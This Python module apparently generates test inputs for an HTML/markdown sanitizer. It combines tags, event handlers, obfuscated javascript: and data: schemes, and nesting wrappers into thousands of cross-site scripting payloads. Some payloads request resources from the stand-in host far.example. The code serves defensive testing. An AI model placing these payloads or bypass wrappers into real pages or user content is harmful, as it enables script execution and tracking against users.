"""Thousands of ways to smuggle a script or a request into a text: tags, handlers, schemes, quotes and wrappers combined."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

TAKEN = "taken()"
FAR = "//far.example/p"
HANDLERS = "onerror onload onclick onfocus onmouseover ontoggle onbegin onanimationstart onpointerenter onscroll".split()
TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "marquee",
    "math", "style", "select autofocus", "object data=x", "embed src=x", "a href=x", "button", "form", "table", "animate", "x",
)  # fmt: skip
SPACES = (" ", "/", "\n", "\t", "\x0c", " x=' ' ")
QUOTES = ("{}", '"{}"', "'{}'", "`{}`")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;",
    "&#106;avascript:", "&#x6A;avascript:", "data:text/html,<script>", "data:text/html;base64,", "vbscript:", "file:///",
    "blob:", "view-source:", "jar:", "ws:", "intent:", "javascript://%0a", "feed:javascript:",
)  # fmt: skip
LINKS = (
    "[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a][r]\n\n[r]: {}", "<a href='{}'>a</a>", "<a href={}>a</a>",
    '<form action="{}"><input type=submit>', '<iframe src="{}"></iframe>', '<object data="{}"></object>', '<base href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">', '<svg><a xlink:href="{}"><text>a</text></a></svg>', '<embed src="{}">',
    '<math href="{}">a</math>', "<area href='{}'>", "<button formaction='{}'>a</button>", "<link rel=import href='{}'>",
)  # fmt: skip
REQUESTS = (
    "![a]({})", "![a][r]\n\n[r]: {}", "<img src={}>", "<img srcset='{} 2x'>", "<video poster={}>",
    "<link rel=stylesheet href={}>", "<style>@import '{}'</style>", "<p style='background:url({})'>",
    "<body background={}>", "<input type=image src={}>",
    "<svg><image href={} /></svg>", "<svg><use href={}#a /></svg>", "<script src={}></script>", "<iframe src={}></iframe>",
    "<object data={}></object>", "<audio src={}>", "<track src={}>", "<meta http-equiv=refresh content='0;url={}'>",
)  # fmt: skip
WRAPPERS = (
    "{}", "- {}", "> {}", "| a |\n| - |\n| {} |", "**{}**", "`{}", "```\n{}", "<div>{}", "<!--{}-->", "<![CDATA[{}]]>",
    "<noscript><p title='</noscript>{}'>", "<svg><style>{}", "<math><mi><mglyph><style>{}", "<form><math><mtext></form>{}",
    "<template>{}</template>", "<textarea>{}", "<title>{}", "<xmp>{}", "\\{}", "[a](b \"{}\")",
)  # fmt: skip


def hostile_markup() -> Iterator[str]:
    """Every text; each calls ``taken()`` or asks ``far.example`` for something where it is not defused."""
    handlers = list(product(TAGS, HANDLERS, SPACES, QUOTES))
    for place, (tag, handler, space, quote) in enumerate(handlers):
        if place % 2 == 0 or quote == "{}":
            yield WRAPPERS[place % len(WRAPPERS)].format(f"<{tag}{space}{handler}={quote.format(TAKEN)}>")
    for scheme, link in product(SCHEMES, LINKS):
        yield link.format(scheme + TAKEN)
    for request, wrapper, far in product(REQUESTS, WRAPPERS, (f"https:{FAR}", FAR)):
        yield wrapper.format(request.format(far))
    for wrapper in WRAPPERS:
        yield from (wrapper.format(f"<script>{TAKEN}</script>"), wrapper.format(f"<scr<script>ipt>{TAKEN}</scr</script>ipt>"))
